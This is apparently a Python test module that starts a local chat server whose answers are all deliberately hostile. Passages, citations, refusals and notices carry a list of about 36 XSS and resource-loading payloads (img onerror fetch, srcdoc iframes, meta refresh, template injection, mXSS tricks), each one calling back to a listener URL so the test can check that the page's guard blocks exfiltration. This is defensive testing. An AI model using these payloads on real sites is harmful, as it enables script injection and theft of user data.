"""A server whose every answer is hostile: python -m tests.web.hostile LISTENER COUNT

It is the real page behind the real guard; only what is answered is made up.
"""

import sys
import tempfile
from collections.abc import AsyncGenerator, Iterator, Sequence
from dataclasses import replace
from pathlib import Path

from index import Language
from qa import ReportQA, SentenceEvent, Unsupported
from tests.web.samples import answer, citation, done, passage, refusal
from web.chat import Chat, Turn, Turns
from web.server import Service, listening, serve
from web.traffic.gate import Gate

PAYLOADS = (
    "<img src={url}>",
    '"><img src={url} onerror=fetch("{url}")>',
    "<img srcset='{url} 1x, {url} 2x'>",
    "<picture><source srcset={url}><img></picture>",
    "<style>@import url({url}); body {{ background: url({url}) }}</style>",
    "<div style='background-image:url({url})'>x</div>",
    "<link rel=stylesheet href={url}>",
    "<link rel=preload as=image href={url}>",
    "<link rel=prefetch href={url}><link rel=preconnect href={url}>",
    "<link rel=dns-prefetch href={url}><link rel=icon href={url}>",
    "<audio src={url} autoplay></audio>",
    "<video src={url} poster={url} autoplay></video>",
    "<iframe src={url}></iframe>",
    "<iframe srcdoc='<img src={url}>'></iframe>",
    "<object data={url}></object><embed src={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href={url}><img src=/own/x.png>",
    "<svg><image href={url} xlink:href={url} /></svg>",
    "<svg onload='fetch(\"{url}\")'><use href='{url}#a'/></svg>",
    "<script src={url}></script><script>fetch('{url}')</script>",
    "<script>new WebSocket('{url}'.replace('http', 'ws'))</script>",
    "<form action={url}><input autofocus onfocus=this.form.submit()></form>",
    "<body background={url}><table background={url}><td background={url}>x</table>",
    "<input type=image src={url}>",
    "<track src={url}><frame src={url}>",
    "![x]({url})",
    "![x][1]\n\n[1]: {url}",
    "[x]({url} \"t\") <{url}>",
    "$$\\includegraphics{{{url}}}$$ \\href{{{url}}}{{x}}",
    "${{fetch('{url}')}} {{{{constructor.constructor('fetch(`{url}`)')()}}}}",
    "</div></section></template><img src={url}>",
    "\u202e<img src={url}>\u2066",
    "<IMG SRC=&#x68;ttp:{url}><img/src={url}>",
    "<math><mtext><table><mglyph><style><img src={url}>",
    "<noscript><p title='</noscript><img src={url}>'>",
    "a\x00<img\x0csrc={url}>",
)  # fmt: skip


class HostileChat(Chat):
    """Answers any question with `count` turns, each with a payload in every place that is shown."""

    def __init__(self, qa: ReportQA, gate: Gate, listener: str, count: int) -> None:
        super().__init__(qa, gate)
        self._listener = listener
        self._count = count

    async def respond(
        self,
        question: str,
        turns: Turns,
        language: Language,
        sources: Sequence[str] | None = None,
    ) -> AsyncGenerator[Turns]:
        yield tuple(self._turns())

    def _turns(self) -> Iterator[Turn]:
        for number in range(1, self._count + 1):
            payload = PAYLOADS[number % len(PAYLOADS)]
            yield hostile_turn(number, payload.format(url=f"{self._listener}/{number}"))


def hostile_turn(number: int, payload: str) -> Turn:
    """A turn of one of four kinds with the payload as its every text."""
    holder = replace(passage(payload), heading=payload, source=payload)
    if number % 4 == 0:
        return Turn(number, payload, stage="failed", problem=payload)
    if number % 4 == 1:
        return done(replace(refusal(holder), text=payload), number, payload)
    cited = citation(payload, 1, holder)
    said = replace(
        answer(f"{payload} [1]", cited), notices=(payload,),
        unsupported=(Unsupported(payload, payload),),
    )  # fmt: skip
    if number % 4 == 2:
        return done(said, number, payload)
    sentence = SentenceEvent(f"{payload} [1]", (cited,))
    return Turn(number, payload, stage="checking", found=1, sentences=(sentence,))


def main(arguments: Sequence[str]) -> None:
    """Serve on a free port of this machine until told to stop."""
    listener, count = arguments[0], int(arguments[1])
    qa, gate = ReportQA.open(), Gate()
    with tempfile.TemporaryDirectory() as folder, listening("127.0.0.1", 0) as socket:
        chat = HostileChat(qa, gate, listener, count)
        service = Service(qa, lambda user: chat, gate, Path(folder))
        serve(service, socket, f"http://127.0.0.1:{socket.getsockname()[1]}")


if __name__ == "__main__":
    main(sys.argv[1:])
